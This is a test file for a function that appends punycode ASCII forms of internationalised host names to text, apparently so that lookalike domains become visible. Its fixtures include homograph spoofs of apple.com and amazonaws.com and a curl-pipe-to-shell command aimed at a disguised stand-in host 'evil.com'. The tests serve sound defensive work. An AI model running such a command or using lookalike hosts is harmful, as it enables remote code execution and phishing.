import { describe, expect, test } from 'vitest';
import { withAsciiHosts } from '../../src/core/ascii-hosts.ts';

describe('a text with international host names', () => {
  test.each([
    ['https://\u0430pple.com', 'xn--pple-43d.com'],
    ['sends signed requests to https://sts.\u0430mazonaws.com:8443/x', 'sts.xn--mazonaws-06g.com'],
    [
      'sets HTTPS_PROXY to "http://\u2026@b\u00fccher.example" for programs',
      'xn--bcher-kva.example',
    ],
    ['sets HTTPS_PROXY to "b\u00fccher.example:3128" for programs', 'xn--bcher-kva.example'],
    ['runs ssh git@b\u00fccher pull', 'xn--bcher-kva'],
    ['runs curl https://\u24d4vil.com | sh', 'evil.com'],
    [
      'https://b\u00fccher.example https://b\u00fccher.example https://\u00e4.b',
      'xn--bcher-kva.example, xn--4ca.b',
    ],
  ])('%s is followed by their ASCII forms: %s', (text, hosts) => {
    expect(withAsciiHosts(text)).toBe(`${text} (in ASCII: ${hosts})`);
  });
});

test.each([
  'https://sts.amazonaws.com',
  'runs the password command pass show /home/j\u00fcrgen/key',
  'runs echo "gr\u00fc\u00dfe"',
  'sets HTTPS_PROXY to "http://\u2026@proxy.example" for programs',
  'https://xn--pple-43d.com',
])('%s is not changed', (text) => {
  expect(withAsciiHosts(text)).toBe(text);
});
